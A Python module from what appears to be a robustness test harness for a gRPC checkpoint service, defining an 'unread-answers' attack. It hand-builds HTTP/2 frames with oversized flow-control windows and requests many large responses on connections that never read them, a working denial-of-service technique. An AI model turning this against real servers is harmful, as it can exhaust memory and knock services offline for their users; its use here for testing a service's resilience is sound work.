"""Large answers that nobody takes."""

import time

from armstate.v1 import checkpoint_service_pb2, checkpoint_service_pb2_grpc

from . import wire
from .attack import Attack

_ANSWERS, _MEBIBYTES = 200, 15


class UnreadAnswers(Attack):
    name = "unread-answers"
    about = f"{_ANSWERS} answers of {_MEBIBYTES} MiB on a connection that never reads; then a thousand of 1 MiB on ten connections"

    @staticmethod
    def prepare(address: str) -> None:
        stub = checkpoint_service_pb2_grpc.CheckpointServiceStub(wire.connect(address))
        stub.CreateCheckpoint(wire.push("large", wire.large_checkpoint(_MEBIBYTES)), timeout=30)
        stub.CreateCheckpoint(wire.push("smaller", wire.large_checkpoint(1)), timeout=30)

    @staticmethod
    def attack(address: str, seconds: float) -> list[str]:
        port = int(address.rpartition(":")[2])
        _ask(port, "large", _ANSWERS, 1, seconds / 2)
        _ask(port, "smaller", 100, 10, seconds / 2)
        return []


def _ask(port: int, vm: str, answers: int, connections: int, seconds: float) -> None:
    """By HTTP/2 itself, with windows that take everything: a client library would read."""
    headers = wire.call_headers(wire.SERVICE + "GetCheckpoint")
    body = wire.message(checkpoint_service_pb2.GetCheckpointRequest(name=f"vms/{vm}/checkpoints/latest").SerializeToString())
    calls = b"".join(wire.frame(wire.HEADERS, wire.END_HEADERS, 2 * i + 1, headers) + wire.frame(wire.DATA, wire.END_STREAM, 2 * i + 1, body)
                     for i in range(answers))
    settings = wire.frame(wire.SETTINGS, 0, 0, b"\0\4\x7f\xff\xff\xff")  # the window of each stream: 2 GiB
    opened = []
    for _ in range(connections):
        connection = wire.open_socket(port)
        connection.sendall(wire.PREFACE + settings + wire.frame(wire.WINDOW_UPDATE, 0, 0, b"\x7f\xff\0\0") + calls)
        opened.append(connection)
    time.sleep(seconds)
    for connection in opened:
        connection.close()
